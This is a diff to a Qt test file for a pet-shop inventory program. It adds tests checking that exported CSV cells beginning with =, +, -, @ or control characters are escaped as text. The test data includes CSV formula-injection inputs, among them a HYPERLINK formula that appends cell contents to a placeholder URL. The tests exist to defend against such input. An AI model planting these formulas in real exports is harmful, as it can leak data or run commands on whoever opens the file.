@@ -88,6 +88,9 @@ private slots:
     void doubleClickShowsTheChart();
     void escapeChangesNothing();
     void csvReadsBack();
+    void formulaCellsAreWrittenAsText_data();
+    void formulaCellsAreWrittenAsText();
+    void formulaInAChartGoesOutAsText();
     void failedCsvWriteLeavesNoFile();
     void chartAsPdf();
     void searchFoldsKanaAndSeparators_data();
@@ -311,13 +314,72 @@ void TestChartList::csvReadsBack()
     QVERIFY(bytes.contains("\r\n"));
     const QList<QStringList> rows = readCsv(QString::fromUtf8(bytes.mid(3)));
     QCOMPARE(rows.size(), 6);
-    QCOMPARE(rows[0], chartColumnNames());
-    QCOMPARE(rows[3][ChartRow::Supplier], QStringLiteral("犬舎\"大空\", 東京"));
-    QCOMPARE(rows[2][ChartRow::PurchaseCost], QStringLiteral("５００００円"));
+    // Each typed price keeps its column and has its amount as a number beside it.
+    QCOMPARE(rows[0], (QStringList{"番号", "種類", "性別", "毛色", "生年月日", "担当者", "仕入日", "仕入先",
+                                   "仕入原価", "仕入原価(円)", "販売予定価格", "販売予定価格(円)", "販売日",
+                                   "マイクロチップ", "状態"}));
+    QCOMPARE(rows[1], (QStringList{"1", "シバイヌ", "オス", "白", "2024/4/15", "", "2024/12/1",
+                                   "山田ブリーダー", "50,000", "50000", "", "", "", "", "在庫"}));
+    QCOMPARE(rows[2], (QStringList{"2", "チワワ", "メス", "白", "2023/4/15", "", "2024-11-05", "佐藤",
+                                   "５００００円", "50000", "", "", "2025/1/10", "", "販売済"}));
+    QCOMPARE(rows[3][7], QStringLiteral("犬舎\"大空\", 東京"));
+    QCOMPARE(rows[3].mid(8, 2), (QStringList{"相談", ""}));
+    QCOMPARE(rows[4].mid(8, 2), (QStringList{"￥120,000", "120000"}));
+    QCOMPARE(rows[5].mid(8, 2), (QStringList{"5万", ""}));
 
     // Line breaks inside a value survive too.
     const QByteArray table = Csv::document({{"a", "b"}, {"一行目\r\n二行目", "x"}});
     QCOMPARE(readCsv(QString::fromUtf8(table.mid(3)))[1][0], QStringLiteral("一行目\r\n二行目"));
+}
+
+void TestChartList::formulaCellsAreWrittenAsText_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<QString>("number");
+    QTest::addColumn<QByteArray>("line");
+    QTest::newRow("hyperlink")
+        << QStringLiteral("=HYPERLINK(\"http://x\"&B2,\"詳細\")") << "1"
+        << QStringLiteral("\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"詳細\"\")\",1").toUtf8();
+    QTest::newRow("plus and at") << "+81 3 1234"
+                                 << "@SUM(A1)" << QByteArray("'+81 3 1234,'@SUM(A1)");
+    QTest::newRow("minus: text or number") << "-5"
+                                           << "-5" << QByteArray("'-5,-5");
+    QTest::newRow("tab and carriage return") << "\tcmd"
+                                             << "\r=1" << QByteArray("'\tcmd,\"'\r=1\"");
+    QTest::newRow("not a whole number") << "a=b"
+                                        << "=1+2" << QByteArray("a=b,'=1+2");
+    QTest::newRow("plain and empty") << "シバ 50,000円"
+                                     << "" << QStringLiteral("\"シバ 50,000円\",").toUtf8();
+}
+
+// A cell a spreadsheet would run as a formula is written with a leading ', except a whole number in
+// a column the program writes numbers into; the heading row is always text.
+void TestChartList::formulaCellsAreWrittenAsText()
+{
+    QFETCH(QString, text);
+    QFETCH(QString, number);
+    QFETCH(QByteArray, line);
+    const QByteArray csv = Csv::document({{"=名前", "-金額"}, {text, number}}, {1});
+    QCOMPARE(csv, QByteArray("\xEF\xBB\xBF'=名前,'-金額\r\n") + line + "\r\n");
+}
+
+void TestChartList::formulaInAChartGoesOutAsText()
+{
+    writeFileBytes("detapetto.dt", recordBytes({"=1+1", "-", 2024, "@A1", "+81", "-3000", ""}));
+    QVERIFY(openChart());
+    const QString path = f->path("charts.csv");
+    f->files.setNextAnswer(path);
+    whenDialogShows([](QDialog* list) {
+        QTest::mouseClick(list->findChild<QPushButton*>("exportCsv"), Qt::LeftButton);
+        list->reject();
+    });
+    action("actChartList")->trigger();
+    const QByteArray fromList = readFileBytes(path);
+    QVERIFY(fromList.contains(
+        QStringLiteral("\r\n1,'=1+1,'-,白,2024/4/15,,'@A1,'+81,'-3000,,,,,,在庫\r\n").toUtf8()));
+    f->files.setNextAnswer(path);
+    action("actExportCsv")->trigger();
+    QCOMPARE(readFileBytes(path), fromList);
 }
 
 void TestChartList::failedCsvWriteLeavesNoFile()
